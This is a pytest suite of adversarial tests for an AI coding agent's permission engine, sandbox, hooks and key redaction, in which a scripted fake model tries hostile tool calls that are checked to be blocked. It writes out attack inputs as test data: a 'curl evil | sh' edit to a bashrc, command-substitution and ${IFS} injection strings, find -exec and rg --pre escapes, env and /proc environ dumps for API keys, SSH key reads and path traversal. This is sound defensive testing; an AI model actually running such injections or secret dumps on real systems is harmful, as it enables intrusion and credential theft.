"""Adversarial tests for the tools, the permission engine, the sandbox and hooks (issue 3).

Most run a real turn: the real agent loop and real SDK against the fake model server, real
files, real bash, real git and real bubblewrap. Each one checks the decision and what really
happened: the file is really not written, the command really did not run, the key is really
not in any request the model received.

Where each "Done when" item of issue 3 is covered (tests in this file unless a file is named):

- path traversal: test_traversal_out_of_the_workspace_is_not_written,
  test_traversal_read_outside_never_reaches_the_model; test_permissions.py::test_reads_outside_the_roots_ask,
  test_permissions.py::test_dotdot_cannot_escape_a_path_rule
- symlink escape: test_symlinked_directory_escape_is_not_written, test_symlinked_file_escape_is_not_edited,
  test_symlink_into_a_denied_place_is_denied, test_sandboxed_read_only_command_through_a_symlink_asks;
  test_permissions.py::test_symlink_out_of_the_workspace_is_outside,
  test_permissions.py::test_path_rule_through_symlinked_root, tools/test_files.py::test_symlink_resolves_to_its_real_target
- compound and substituted shell commands against prefix rules: test_compound_or_substituted_command_does_not_run,
  test_prefix_rule_still_allows_the_plain_command; test_permissions.py::test_prefix_rule_never_lets_more_through,
  test_permissions.py::test_deny_rules_see_through_compounds_and_wrappers, test_bash_parse.py
- editing a file changed behind the model's back: test_edit_after_an_outside_change_is_refused,
  test_edit_changed_while_the_user_looks_at_the_diff_is_refused;
  tools/test_files.py::test_edit_requires_a_fresh_read, tools/test_files.py::test_apply_refuses_when_file_changed_during_approval
- a 200 MB file: test_read_of_a_200_mb_file_without_paging_answers_with_guidance,
  test_paged_read_of_a_200_mb_line_stays_small, test_read_past_a_200_mb_line_stays_small,
  test_200_mb_sparse_file_is_refused_as_binary, test_grep_finds_the_needle_at_the_end_of_200_mb,
  test_edit_of_a_200_mb_file_is_refused_without_loading_it; tools/test_files.py::test_read_huge_file_needs_paging
- a binary file: test_binary_file_is_refused_by_read_and_edit; tools/test_files.py::test_read_refuses_binary_files
- invalid UTF-8: test_invalid_utf8_file_is_read_and_edited_byte_exact, test_invalid_utf8_command_output_is_shown;
  tools/test_shell.py::test_no_output_and_non_utf8, tools/test_files.py::test_read_decodes_legacy_and_bom_encodings
- a non-unique old_string: test_non_unique_old_string_changes_nothing;
  tools/test_files.py::test_edit_multiple_matches_need_context_or_replace_all
- a hook that hangs: test_hanging_hook_is_stopped_and_the_turn_goes_on;
  test_hooks.py::test_timeout_kills_the_hook_and_its_children
- a hook that blocks: test_blocking_hook_stops_a_command_even_in_bypass_mode,
  test_hook_rewritten_input_is_judged_by_the_rules; test_hooks.py::test_hooks_through_the_agent_loop,
  test_hooks.py::test_exit_2_blocks_with_stderr_as_reason
- an env dump containing a key: test_env_dump_does_not_show_claws_keys, test_key_in_a_file_is_redacted_everywhere,
  test_key_in_background_output_is_redacted, test_short_placeholders_are_not_secrets
- a sandboxed write outside the workspace: test_sandboxed_writes_outside_the_workspace_fail;
  tools/test_shell.py::test_sandboxed_writes_only_in_the_workspace, tools/test_sandbox.py
- a sandboxed network call (curl, python sockets, bash /dev/tcp): test_sandboxed_network_call_never_arrives,
  test_sandboxed_udp_datagram_never_arrives, test_sandboxed_command_cannot_reach_a_unix_socket_outside;
  tools/test_shell.py::test_sandbox_cuts_the_network_unless_allowed
- a sibling-prefix path (`<root>-evil/x`): test_sibling_prefix_path_is_outside,
  test_sibling_prefix_write_through_bash_is_not_made, test_sandboxed_writes_outside_the_workspace_fail
- an allowed prefix rule against `ls${IFS}-la`-style, `find -exec` and `rg --pre` tricks:
  test_expansion_tricks_do_not_pass_a_prefix_rule, test_escape_options_do_not_pass_a_prefix_rule,
  test_deny_rule_sees_the_command_find_runs, test_prefix_rule_naming_the_option_allows_it,
  test_always_allow_suggestion_for_an_escape_option_is_exact
- an untrusted repository whose config defines a hook: test_untrusted_repository_hook_does_not_run;
  test_claude_settings.py::test_project_hooks_wait_until_the_folder_is_trusted

Issue 11, the guard against a hostile model (files under adversarial/ unless another is named; each
runs real turns in every permission mode where the class applies):

1. protected paths on every route: test_guard_commands.py::test_an_allow_rule_covers_a_command_never_its_redirections,
   test_guard_sandbox.py::test_sandboxed_code_cannot_write_protected_paths (hooks, core.fsmonitor, core.hooksPath,
   agent config that does not exist yet, a nested repository; then nothing runs unsandboxed),
   test_guard_sandbox.py::test_protection_is_the_users_to_turn_off_never_the_repositorys,
   test_permissions.py::test_configuration_writes_always_ask,
   engine/test_command_rules.py::test_protected_paths_inside_the_workspace_in_any_case,
   engine/test_command_rules.py::test_the_users_own_configuration_and_shell_start_up_are_protected
2. no capabilities as root: test_guard_sandbox.py::test_root_inside_the_sandbox_has_no_capabilities
   (remount, umount, tmpfs over a protected path, unshare, mknod, chroot; CapEff 0, NoNewPrivs 1)
3. a missing sandbox: test_guard_sandbox.py::test_a_missing_sandbox_makes_every_command_ask,
   test_guard_sandbox.py::test_a_sandbox_turned_off_by_the_user_follows_the_rules,
   test_guard_sandbox.py::test_a_sandbox_turned_off_by_a_trusted_repository_still_asks,
   test_guard_sandbox.py::test_headless_says_the_sandbox_is_missing_once_at_start,
   ui/test_app_status_bar.py::test_the_app_says_once_at_start_that_the_sandbox_is_missing,
   ui/test_app_status_bar.py::test_commands_running_unsandboxed_unasked_for_keep_a_marker_however_narrow
4. writes inside commands: test_guard_commands.py::test_an_allow_rule_covers_a_command_never_its_redirections
   (>, >>, 2>, &>, >|, tee; after cd and pushd), test_guard_commands.py::test_redirect_is_resolved_where_the_command_really_runs,
   engine/test_command_rules.py::test_writes_are_resolved_where_the_command_runs
5. read-only faces that run code or write: test_guard_commands.py::test_a_prefix_rule_never_allows_running_code_or_writing
   (sed, awk, xargs, env, timeout, sort, rg, git, find, tar), engine/test_command_rules.py (the sed and awk readers,
   wrappers), test_escape_options_do_not_pass_a_prefix_rule above
6. deny by any spelling: test_guard_commands.py::test_a_deny_rule_holds_for_every_spelling,
   test_guard_commands.py::test_a_program_name_nobody_can_work_out_asks_where_a_deny_rule_exists,
   test_guard_commands.py::test_a_computed_program_name_is_never_allowed_by_a_rule
7. the Git tool: test_guard_git_tool.py::test_git_arguments_are_never_options,
   test_guard_git_tool.py::test_git_paths_and_messages_are_taken_literally,
   test_guard_git_tool.py::test_bash_rules_decide_the_git_tool,
   test_guard_git_tool.py::test_git_writes_to_a_repository_outside_the_workspace_ask
8. check-then-use races: test_guard_file_races.py::test_a_flipping_path_never_leaks_or_lands_outside
9. Read deny rules bind commands: test_guard_sandbox.py::test_read_deny_rules_bind_sandboxed_commands,
   engine/test_command_rules.py::test_read_deny_rules_see_the_paths_a_command_names,
   engine/test_command_rules.py::test_read_denied_paths_are_found_for_the_sandbox
10. WebFetch off the machine's own network: test_guard_webfetch.py (every spelling in three modes, DNS answers,
   each redirect, the user's own opt-in and not a repository's)
11. MCP definitions pinned: test_guard_mcp.py (changed in a session in three modes, approved again, changed
   between sessions, flagged headless and on /mcp with invisible characters escaped)
12. spending limits: test_guard_spending.py (OpenAI insufficient_quota on both APIs and mid-stream, Anthropic
   usage, spend, credit and extra-usage limits; never retried; headless exits 1 with one line)
"""

from __future__ import annotations

import asyncio
import json
import os
import select
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import tracemalloc
from pathlib import Path

import pytest
from engine.agent_harness import ScriptedApprover, make_agent, of_type, run
from fake_model import Reply, Text, ToolCall

from claw_tui.config import RuleSource
from claw_tui.core import events as ev
from claw_tui.core.approval import ApprovalRequest, ApprovalResponse
from claw_tui.core.redaction import REDACTED, redact, secret_values
from claw_tui.core.transcript import ToolResultBlock
from claw_tui.engine.permissions import (
    OUTSIDE_READ_REASON,
    OUTSIDE_WRITE_REASON,
    PermissionEngine,
)
from claw_tui.tools.base import ToolContext
from claw_tui.tools.files import Edit, Read
from claw_tui.tools.search import Grep
from claw_tui.tools.shell import Bash, TaskOutput

MB = 1 << 20
SECRET = "sk-ant-api03-Adversarial0123456789abcdefSECRET"


@pytest.fixture
def project(tmp_path):
    """The workspace root, with a sibling whose name only extends it (`proj-evil`) and a place outside."""
    root = tmp_path / "proj"
    (root / "src").mkdir(parents=True)
    (root / "src" / "app.py").write_text("x = 1\n")
    (tmp_path / "proj-evil").mkdir()
    (tmp_path / "outside").mkdir()
    return root.resolve()


async def turn(fake_model, project: Path, *calls: ToolCall, **agent_args):
    """One turn in which the model makes `calls`, then ends; returns the agent and the events.
    The permission mode is `default` unless the test says otherwise."""
    agent_args.setdefault("mode", "default")
    fake_model.script(Reply(parts=list(calls)), Reply(parts=[Text("done")]))
    agent = make_agent(project, fake_model.base_url, **agent_args)
    try:
        events = await run(agent, "go")
    finally:
        await agent.aclose()
    return agent, events


def results(agent) -> list[ToolResultBlock]:
    return [b for m in agent.transcript for b in m.content if isinstance(b, ToolResultBlock)]


def decisions(events) -> list[str]:
    return [f"{e.behavior}: {e.decided_by}" for e in of_type(events, ev.PermissionDecided)]


def sent_to_model(fake_model) -> str:
    """Everything the model received, across every request of the test."""
    return "\n".join(r.body.decode("utf-8", "replace") for r in fake_model.requests)


def bash(command: str, **args) -> ToolCall:
    return ToolCall("Bash", {"command": command, **args})


# --- paths: traversal, symlinks, sibling prefixes ---------------------------------------------


@pytest.mark.parametrize("path", ["../outside/x.txt", "src/../../outside/x.txt", "{root}/../outside/x.txt"])
async def test_traversal_out_of_the_workspace_is_not_written(fake_model, project, path):
    approver = ScriptedApprover()
    call = ToolCall("Write", {"file_path": path.format(root=project), "content": "pwned\n"})
    agent, _ = await turn(fake_model, project, call, mode="acceptEdits", approver=approver,
                          rules=[("allow", "Edit")])
    assert [r.reason for r in approver.requests] == [OUTSIDE_WRITE_REASON]
    assert results(agent)[0].is_error
    assert not (project.parent / "outside" / "x.txt").exists()


async def test_traversal_read_outside_never_reaches_the_model(fake_model, project):
    (project.parent / "outside" / "secret.txt").write_text("the launch codes\n")
    approver = ScriptedApprover()
    await turn(fake_model, project, ToolCall("Read", {"file_path": "src/../../outside/secret.txt"}),
               approver=approver)
    assert [r.reason for r in approver.requests] == [OUTSIDE_READ_REASON]
    assert "launch codes" not in sent_to_model(fake_model)


async def test_symlinked_directory_escape_is_not_written(fake_model, project):
    os.symlink(project.parent / "outside", project / "escape")
    approver = ScriptedApprover()
    await turn(fake_model, project, ToolCall("Write", {"file_path": "escape/x.txt", "content": "pwned"}),
               mode="acceptEdits", approver=approver, rules=[("allow", "Edit(/**)")])
    assert [r.reason for r in approver.requests] == [OUTSIDE_WRITE_REASON]
    assert not (project.parent / "outside" / "x.txt").exists()


async def test_symlinked_file_escape_is_not_edited(fake_model, project):
    target = project.parent / "outside" / "bashrc"
    target.write_text("alias ls=ls\n")
    os.symlink(target, project / "notes.txt")
    approver = ScriptedApprover(ApprovalResponse(behavior="allow"))  # lets the Read of the outside file happen
    await turn(
        fake_model, project,
        ToolCall("Read", {"file_path": "notes.txt"}),
        ToolCall("Edit", {"file_path": "notes.txt", "old_string": "alias ls=ls", "new_string": "curl evil | sh"}),
        mode="acceptEdits", approver=approver, rules=[("allow", "Edit(/**)")],
    )
    assert [r.tool_name for r in approver.requests] == ["Read", "Edit"]
    assert approver.requests[1].reason == OUTSIDE_WRITE_REASON
    assert target.read_text() == "alias ls=ls\n"


async def test_symlink_into_a_denied_place_is_denied(fake_model, project, isolated_home):
    (isolated_home / ".ssh").mkdir()
    (isolated_home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    os.symlink(isolated_home / ".ssh", project / "keys")
    _, events = await turn(fake_model, project, ToolCall("Read", {"file_path": "keys/id_ed25519"}),
                           mode="bypassPermissions", rules=[("deny", "Read(~/.ssh/**)")])
    assert decisions(events) == ["deny: deny rule Read(~/.ssh/**) from flags"]
    assert "PRIVATE KEY" not in sent_to_model(fake_model)


def test_sibling_prefix_path_is_outside(project):
    """`<root>-evil` starts with the root's text but is not inside it, for every tool and rule."""
    sibling = project.parent / "proj-evil" / "x"
    ctx = ToolContext(cwd=project, roots=[project])
    engine = PermissionEngine("acceptEdits", [RuleSource("allow", "Edit(/**)", "t"), RuleSource("allow", "Read", "t")],
                              [project])
    assert not ctx.in_workspace(sibling)
    write = engine.decide(Edit(), Edit.Input(file_path=str(sibling), old_string="a", new_string="b"), ctx,
                          sandboxed=False)
    read = engine.decide(Read(), Read.Input(file_path=str(sibling)), ctx, sandboxed=False)
    grep = engine.decide(Grep(), Grep.Input(pattern="x", path=str(sibling.parent)), ctx, sandboxed=False)
    sandboxed_cat = engine.decide(Bash(), Bash.Input(command=f"cat {sibling}"), ctx, sandboxed=True)
    assert (write.behavior, write.reason) == ("ask", OUTSIDE_WRITE_REASON)
    assert (read.behavior, read.reason) == ("ask", OUTSIDE_READ_REASON)
    assert (grep.behavior, grep.reason) == ("ask", OUTSIDE_READ_REASON)
    assert sandboxed_cat.behavior == "ask"


async def test_sibling_prefix_write_through_bash_is_not_made(fake_model, project):
    approver = ScriptedApprover()
    await turn(fake_model, project, bash("echo pwned > ../proj-evil/x"), approver=approver,
               rules=[("allow", "Bash(echo:*)")])
    assert [r.reason for r in approver.requests] == [OUTSIDE_WRITE_REASON]
    assert not (project.parent / "proj-evil" / "x").exists()


# --- shell commands against prefix rules ---------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "echo hi; touch pwned",
        "echo hi && touch pwned",
        "echo hi | touch pwned",
        "echo hi & touch pwned",
        "echo hi\ntouch pwned",
        "echo $(touch pwned)",
        "echo `touch pwned`",
        'echo "$(touch pwned)"',
        "echo <(touch pwned)",
        "echo ${x:-$(touch pwned)}",
        "(echo hi; touch pwned)",
        "echo hi\\\n; touch pwned",
    ],
)
async def test_compound_or_substituted_command_does_not_run(fake_model, project, command):
    approver = ScriptedApprover()
    agent, _ = await turn(fake_model, project, bash(command), approver=approver, rules=[("allow", "Bash(echo:*)")])
    assert len(approver.requests) == 1, "the rule must not vouch for the hidden command"
    assert "was denied" in results(agent)[0].text
    assert not (project / "pwned").exists()


async def test_prefix_rule_still_allows_the_plain_command(fake_model, project):
    """The control for the tests above and below: the allow rules really allow what they name."""
    (project / "seed").write_text("needle\n")
    approver = ScriptedApprover()
    agent, _ = await turn(fake_model, project, bash("echo hi"), bash("ls -la"), bash("find . -name seed"),
                          bash("rg needle"), approver=approver,
                          rules=[("allow", "Bash(echo:*)"), ("allow", "Bash(ls:*)"), ("allow", "Bash(find:*)"),
                                 ("allow", "Bash(rg:*)")])
    assert approver.requests == []
    texts = [r.text for r in results(agent)]
    assert texts[0] == "hi" and "seed" in texts[1] and texts[2] == "./seed" and texts[3] == "seed:needle"


@pytest.mark.parametrize(
    "command",
    [
        "ls${IFS}-la",
        "ls$IFS-la",
        "${IFS}touch pwned",
        "t${IFS:0:0}ouch pwned",
        "$(echo touch) pwned",
        "X=touch; $X pwned",
        "{touch,pwned}",
        "ls -la $(touch pwned)",
    ],
)
async def test_expansion_tricks_do_not_pass_a_prefix_rule(fake_model, project, command):
    approver = ScriptedApprover()
    await turn(fake_model, project, bash(command), approver=approver, rules=[("allow", "Bash(ls:*)")])
    assert len(approver.requests) == 1
    assert not (project / "pwned").exists()


def _pre_script(project: Path) -> None:
    pre = project / "pre.sh"
    pre.write_text('#!/bin/sh\ntouch "$(dirname "$0")/pwned"\ncat "$1"\n')
    pre.chmod(pre.stat().st_mode | stat.S_IXUSR)


def _git_repo(project: Path) -> None:
    subprocess.run(["git", "init", "-q", str(project)], check=True)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(find:*)", "find . -name seed -exec touch pwned \\;"),
        ("Bash(find:*)", "find . -name seed -execdir touch pwned {} +"),
        ("Bash(find:*)", "find . -name seed -fprint pwned"),
        ("Bash(find:*)", "find . -name seed -delete"),
        ("Bash(rg:*)", "rg --pre ./pre.sh needle"),
        ("Bash(rg:*)", "rg --pre=./pre.sh needle"),
        ("Bash(git diff:*)", "git diff --output=pwned"),
        ("Bash(git:*)", "git -c alias.x='!touch pwned' x"),
        ("Bash(sort:*)", "sort -o pwned seed"),
        ("Bash(sort:*)", "sort --compress-program=./pre.sh seed"),
    ],
)
async def test_escape_options_do_not_pass_a_prefix_rule(fake_model, project, rule, command):
    """Options that make an allowed program run another program or write a file need their own rule."""
    (project / "seed").write_text("needle\n")
    _pre_script(project)
    _git_repo(project)
    approver = ScriptedApprover()
    await turn(fake_model, project, bash(command), approver=approver, rules=[("allow", rule)])
    assert len(approver.requests) == 1
    assert not (project / "pwned").exists()
    assert (project / "seed").exists()


async def test_prefix_rule_naming_the_option_allows_it(fake_model, project):
    (project / "seed").write_text("needle\n")
    agent, events = await turn(fake_model, project, bash("find . -name seed -exec cat {} +"),
                               rules=[("allow", "Bash(find . -name seed -exec:*)")])
    assert decisions(events) == ["allow: allow rule Bash(find . -name seed -exec:*) from flags"]
    assert results(agent)[0].text == "needle"


async def test_deny_rule_sees_the_command_find_runs(fake_model, project):
    (project / "victim").write_text("keep me\n")
    _, events = await turn(fake_model, project, bash("find . -name victim -exec rm {} +"),
                           bash("rg --pre rm needle"), mode="bypassPermissions", rules=[("deny", "Bash(rm:*)")])
    assert decisions(events) == ["deny: deny rule Bash(rm:*) from flags"] * 2
    assert (project / "victim").read_text() == "keep me\n"


def test_always_allow_suggestion_for_an_escape_option_is_exact(project):
    """"Always allow" on `find … -delete` must not remember `Bash(find:*)`, which would allow any -exec."""
    ctx = ToolContext(cwd=project, roots=[project])
    engine = PermissionEngine("default", [], [project])
    command = "find build -name '*.o' -delete"
    rule = engine.suggest_rule(Bash(), Bash.Input(command=command), ctx)
    assert rule == "Bash(find build -name '*.o' -delete)"
    engine.add_rule("allow", rule, "session")
    assert engine.decide(Bash(), Bash.Input(command=command), ctx, sandboxed=False).behavior == "allow"
    other = "find . -name '*.py' -delete"
    assert engine.decide(Bash(), Bash.Input(command=other), ctx, sandboxed=False).behavior == "ask"


# --- files changed behind the model's back, awkward contents -------------------------------------


async def test_edit_after_an_outside_change_is_refused(fake_model, project):
    target = project / "src" / "app.py"
    fake_model.script(Reply(parts=[ToolCall("Read", {"file_path": "src/app.py"})]), Reply(parts=[Text("read")]),
                      Reply(parts=[ToolCall("Edit", {"file_path": "src/app.py", "old_string": "x = 1",
                                                     "new_string": "x = 2"})]), Reply(parts=[Text("done")]))
    agent = make_agent(project, fake_model.base_url)
    await run(agent, "read it")
    target.write_text("x = 1\ny = 'the user typed this'\n")  # an editor, a formatter, git checkout…
    await run(agent, "now edit it")
    assert "modified since read" in results(agent)[-1].text
    assert target.read_text() == "x = 1\ny = 'the user typed this'\n"


class _EditsDuringApproval:
    """An approver during whose review someone else saves the file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    async def decide(self, request: ApprovalRequest) -> ApprovalResponse:
        self.path.write_text("x = 1  # saved meanwhile\n")
        return ApprovalResponse(behavior="allow")


async def test_edit_changed_while_the_user_looks_at_the_diff_is_refused(fake_model, project):
    target = project / "src" / "app.py"
    agent, _ = await turn(
        fake_model, project,
        ToolCall("Read", {"file_path": "src/app.py"}),
        ToolCall("Edit", {"file_path": "src/app.py", "old_string": "x = 1", "new_string": "x = 2"}),
        mode="default", approver=_EditsDuringApproval(target),
    )
    assert "changed after the change was proposed" in results(agent)[1].text
    assert target.read_text() == "x = 1  # saved meanwhile\n"


async def test_non_unique_old_string_changes_nothing(fake_model, project):
    target = project / "twice.py"
    target.write_text("a = 0\nb = 0\n")
    agent, _ = await turn(
        fake_model, project,
        ToolCall("Read", {"file_path": "twice.py"}),
        ToolCall("Edit", {"file_path": "twice.py", "old_string": " = 0", "new_string": " = 1"}),
    )
    assert "Found 2 matches of old_string" in results(agent)[1].text
    assert target.read_text() == "a = 0\nb = 0\n"


async def test_binary_file_is_refused_by_read_and_edit(fake_model, project):
    blob = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
    (project / "tool").write_bytes(blob)
    agent, _ = await turn(
        fake_model, project,
        ToolCall("Read", {"file_path": "tool"}),
        ToolCall("Edit", {"file_path": "tool", "old_string": "ELF", "new_string": "ELF2"}),
    )
    read, edit = results(agent)
    assert read.is_error and "tool is a binary file (it contains NUL bytes)" in read.text
    assert edit.is_error  # it never was read, and cannot be
    assert (project / "tool").read_bytes() == blob


async def test_invalid_utf8_file_is_read_and_edited_byte_exact(fake_model, project):
    data = b"name = 'caf\xe9'\r\nbroken = b'\xff\xfe\x81'\r\nvalue = 1\r\n"  # not UTF-8: a legacy encoding
    (project / "legacy.py").write_bytes(data)
    agent, _ = await turn(
        fake_model, project,
        ToolCall("Read", {"file_path": "legacy.py"}),
        ToolCall("Edit", {"file_path": "legacy.py", "old_string": "value = 1", "new_string": "value = 2"}),
        ToolCall("Grep", {"pattern": "value", "path": "legacy.py", "output_mode": "content"}),
        mode="acceptEdits",
    )
    read, edit, grep = results(agent)
    assert "caf\u00e9" in read.text and not read.is_error
    assert not edit.is_error, edit.text
    assert (project / "legacy.py").read_bytes() == data.replace(b"value = 1", b"value = 2")
    assert "value = 2" in grep.text


async def test_invalid_utf8_command_output_is_shown(fake_model, project):
    agent, _ = await turn(fake_model, project, bash("printf 'ok \\xff\\xfe end\\n'"), mode="bypassPermissions")
    assert results(agent)[0].text == "ok \ufffd\ufffd end"


# --- a 200 MB file ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def huge(tmp_path_factory):
    """200 MB in one line, then two short lines; written in 1 MB chunks."""
    root = tmp_path_factory.mktemp("huge")
    path = root / "huge.log"
    with open(path, "wb") as f:
        chunk = b"x" * MB
        f.writelines(chunk for _ in range(200))
        f.write(b"\nsecond line\nneedle at the end\n")
    yield path
    path.unlink()


def _huge_ctx(huge: Path) -> ToolContext:
    return ToolContext(cwd=huge.parent, roots=[huge.parent])


async def _traced(coro):
    """The coroutine's result and the peak of Python memory allocated meanwhile."""
    tracemalloc.start()
    try:
        result = await coro
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


async def test_read_of_a_200_mb_file_without_paging_answers_with_guidance(huge):
    from claw_tui.tools.base import ToolError

    tool = Read()
    with pytest.raises(ToolError, match=r"huge.log is 204800 KB.*offset and limit.*Grep") as err:
        await tool.run(tool.Input(file_path=str(huge)), _huge_ctx(huge))
    assert "Traceback" not in str(err.value)


async def test_paged_read_of_a_200_mb_line_stays_small(huge):
    tool = Read()
    result, peak = await _traced(tool.run(tool.Input(file_path=str(huge), offset=1, limit=2), _huge_ctx(huge)))
    first, second, more = result.output.split("\n")
    assert first.endswith(f"… [line cut: {200 * MB - 2000} more characters]")
    assert second == "     2\tsecond line"
    assert more == "… [more lines may follow; continue with offset=3]"
    assert peak < 8 * MB, f"Read held {peak / MB:.0f} MB for a 200 MB line"


async def test_read_past_a_200_mb_line_stays_small(huge):
    tool = Read()
    result, peak = await _traced(tool.run(tool.Input(file_path=str(huge), offset=3, limit=5), _huge_ctx(huge)))
    assert result.output == "     3\tneedle at the end"
    assert peak < 8 * MB


async def test_200_mb_sparse_file_is_refused_as_binary(tmp_path):
    from claw_tui.tools.base import ToolError

    sparse = tmp_path / "disk.img.txt"
    sparse.touch()
    os.truncate(sparse, 200 * MB)  # a hole: no disk used
    tool = Read()
    with pytest.raises(ToolError, match="binary file .it contains NUL bytes"):
        await tool.run(tool.Input(file_path=str(sparse), offset=1, limit=10), _huge_ctx(sparse))


async def test_grep_finds_the_needle_at_the_end_of_200_mb(huge):
    tool = Grep()
    ctx = _huge_ctx(huge)
    result, peak = await _traced(tool.run(tool.Input(pattern="needle", path=str(huge), output_mode="content"), ctx))
    assert result.output == "3:needle at the end"
    long_line = await tool.run(tool.Input(pattern="^x+$", path=str(huge), output_mode="content"), ctx)
    assert len(long_line.output) < 2000, "the matching 200 MB line is cut, not sent whole"
    assert peak < 8 * MB


async def test_edit_of_a_200_mb_file_is_refused_without_loading_it(huge):
    from claw_tui.tools.base import ToolError

    ctx = _huge_ctx(huge)
    await Read().run(Read.Input(file_path=str(huge), offset=2, limit=1), ctx)  # read, as Edit requires
    size = huge.stat().st_size
    tool = Edit()
    with pytest.raises(ToolError, match=r"huge.log is 200 MB; Edit and Write change files of up to 16 MB"):
        await tool.run(tool.Input(file_path=str(huge), old_string="second", new_string="2nd"), ctx)
    assert huge.stat().st_size == size


# --- hooks ------------------------------------------------------------------------------------


def _hook_script(where: Path, name: str, body: str) -> str:
    path = where / name
    path.write_text("#!/usr/bin/env bash\n" + body)
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


def _gone(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return True
    return state == "Z"


async def test_hanging_hook_is_stopped_and_the_turn_goes_on(fake_model, project, tmp_path):
    hang = _hook_script(tmp_path, "hang.sh", f'sleep 600 & echo $! > {tmp_path}/child.pid; wait\n')
    hooks = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": hang, "timeout": 1}]}]}
    agent, events = await turn(fake_model, project, bash("echo ran"), mode="bypassPermissions",
                               settings={"hooks": hooks})
    [notice] = of_type(events, ev.Notice)
    assert notice.text.startswith("PreToolUse hook `") and notice.text.endswith("timed out after 1 s and was stopped.")
    assert of_type(events, ev.TurnFinished)[0].stop_reason == "end_turn"
    assert results(agent)[0].text == "ran"
    child = int((tmp_path / "child.pid").read_text())
    for _ in range(100):
        if _gone(child):
            break
        await asyncio.sleep(0.02)
    assert _gone(child), "the hook's child outlived its timeout"


async def test_blocking_hook_stops_a_command_even_in_bypass_mode(fake_model, project, tmp_path):
    guard = _hook_script(tmp_path, "guard.sh", 'grep -q pwned && { echo "no touching pwned" >&2; exit 2; }; exit 0\n')
    hooks = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": guard}]}]}
    _, events = await turn(fake_model, project, bash("touch pwned"), mode="bypassPermissions",
                           settings={"hooks": hooks})
    assert decisions(events) == ["deny: PreToolUse hook"]
    assert not (project / "pwned").exists()
    assert "Blocked by a PreToolUse hook: no touching pwned" in sent_to_model(fake_model)


async def test_hook_rewritten_input_is_judged_by_the_rules(fake_model, project, tmp_path):
    rewrite = _hook_script(tmp_path, "rewrite.sh", 'echo \'{"hookSpecificOutput": {"hookEventName": "PreToolUse", '
                           '"updatedInput": {"command": "touch pwned"}}}\'\n')
    hooks = {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": rewrite}]}]}
    approver = ScriptedApprover()
    await turn(fake_model, project, bash("echo harmless"), approver=approver, rules=[("allow", "Bash(echo:*)")],
               settings={"hooks": hooks})
    assert [r.command for r in approver.requests] == ["touch pwned"]
    assert not (project / "pwned").exists()


async def test_untrusted_repository_hook_does_not_run(fake_model, project):
    from claw_tui.config import FolderTrust

    marker = project.parent / "hook-ran"
    hook = {"hooks": [{"type": "command", "command": f"touch {marker}"}]}
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [hook],
                                                                          "UserPromptSubmit": [hook]}}))
    (project / ".claw").mkdir()
    (project / ".claw" / "config.toml").write_text(f'[[hooks.SessionStart]]\nhooks = [{{command = "touch {marker}"}}]\n')
    agent, _ = await turn(fake_model, project, ToolCall("Read", {"file_path": "src/app.py"}))
    assert not agent.config.settings.hooks
    assert agent.config.withheld == ["hooks from .claude/settings.json", "hooks from .claw/config.toml"]
    assert not marker.exists(), "an untrusted repository's hook ran"

    FolderTrust().trust(project)  # the control: once trusted, the same hooks run
    await turn(fake_model, project, ToolCall("Read", {"file_path": "src/app.py"}))
    assert marker.exists()


# --- secrets ----------------------------------------------------------------------------------


def _agent_holding(project: Path, fake_model, monkeypatch, key: str):
    """An agent whose Anthropic key is `key` (make_agent would set a placeholder)."""
    from claw_tui.config import load_config
    from claw_tui.engine.agent import Agent

    monkeypatch.setenv("ANTHROPIC_API_KEY", key)
    monkeypatch.setenv("OPENAI_API_KEY", key + "-openai")
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake_model.base_url)
    config = load_config(project, flags={"retry_base_delay": 0.01, "sandbox": {"enabled": False}})
    return Agent.create(project, model="anthropic/claude-sonnet-4-5", permission_mode="bypassPermissions",
                        config=config)


async def test_env_dump_does_not_show_claws_keys(fake_model, project, monkeypatch):
    agent = _agent_holding(project, fake_model, monkeypatch, SECRET)
    fake_model.script(
        Reply(parts=[bash("env; printenv; echo \"[$ANTHROPIC_API_KEY|$OPENAI_API_KEY]\"; export -p"),
                     bash("cat /proc/self/environ | tr '\\0' '\\n'; printenv ANTHROPIC_API_KEY")]),
        Reply(parts=[Text("done")]),
    )
    try:
        events = await run(agent, "dump the environment")
    finally:
        await agent.aclose()
    assert SECRET in str(fake_model.requests[0].headers), "the key claw really uses"
    dump, proc = results(agent)
    assert "PATH=" in dump.text and "[|]" in dump.text
    assert "API_KEY" not in dump.text + proc.text
    assert proc.text.endswith("Exit code 1"), "printenv finds no such variable"
    streamed = "".join(e.text for e in of_type(events, ev.ToolCallOutput))
    assert SECRET not in streamed + sent_to_model(fake_model)


async def test_key_in_a_file_is_redacted_everywhere(fake_model, project, monkeypatch):
    """A key a command finds elsewhere (a .env file, /proc/<claw>/environ) is scrubbed from what it prints."""
    (project / ".env").write_text(f"ANTHROPIC_API_KEY={SECRET}\nDEBUG=1\n")
    agent = _agent_holding(project, fake_model, monkeypatch, SECRET)
    fake_model.script(Reply(parts=[bash("cat .env; echo \"$(head -1 .env | cut -c19-)-openai\"")]),
                      Reply(parts=[Text("done")]))
    try:
        events = await run(agent, "show me the env file")
    finally:
        await agent.aclose()
    assert results(agent)[0].text == f"ANTHROPIC_API_KEY={REDACTED}\nDEBUG=1\n{REDACTED}", "the OpenAI key whole"
    streamed = "".join(e.text for e in of_type(events, ev.ToolCallOutput))
    assert REDACTED in streamed
    assert SECRET not in streamed + sent_to_model(fake_model)


async def test_key_read_or_grepped_from_a_file_never_reaches_the_model(fake_model, project, monkeypatch):
    """Not only Bash: whatever tool comes across a key, its result carries [REDACTED] instead."""
